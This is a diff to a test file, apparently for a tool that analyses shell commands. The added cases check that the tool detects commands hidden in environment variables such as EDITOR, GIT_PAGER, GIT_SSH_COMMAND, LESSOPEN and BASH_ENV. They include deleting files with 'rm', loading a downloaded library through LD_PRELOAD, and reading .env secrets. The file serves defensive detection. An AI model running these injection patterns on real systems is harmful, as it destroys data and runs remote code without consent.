@@ -337,6 +337,22 @@ check("variables of a file are used and not read", [
 
 check("git compares files that are not in a repository", [["git diff --no-index /dev/null .env", "git reads=/p/.env"]]);
 
+check("variables whose value a program runs", [
+  ["EDITOR='rm a;:' git commit", "rm via=env deletes=/p/a"],
+  ["env GIT_PAGER='rm a' git log", "rm via=env deletes=/p/a"],
+  ["export GIT_SSH_COMMAND='sh -c \"rm a\"'; git fetch", "rm via=env,sh deletes=/p/a"],
+  ["PAGER=x; PAGER='rm a'; export PAGER", "rm via=env deletes=/p/a"],
+  ["LESSOPEN='|rm a %s' less b", "rm via=env deletes=/p/a,/p/%s"],
+  ["echo 'rm a' > e; BASH_ENV=e bash -c :", "rm via=env deletes=/p/a"],
+  ["BASH_ENV=<(echo rm a) bash -c :", "rm via=env deletes=/p/a"],
+  ["curl -so l.so h.example; LD_PRELOAD=./l.so ls", "env via=env runs=network"],
+  ["NODE_OPTIONS='--require ./a.js' npm test", "npm"],
+  ["EDITOR=vim git commit", "vim via=env"],
+]);
+
+it("a variable that a program runs is not a reason to ask if its value is not known", () =>
+  expect(factsOf('EDITOR="$EDITOR" git commit').some(({ unknown }) => unknown.program !== undefined)).toBe(false));
+
 check("descriptors stay open", [
   ["exec 3<<< 'rm a'; bash <&3", "rm via=bash deletes=/p/a"],
   ["exec 3< <(echo rm a); source /dev/fd/3", "rm via=source deletes=/p/a"],
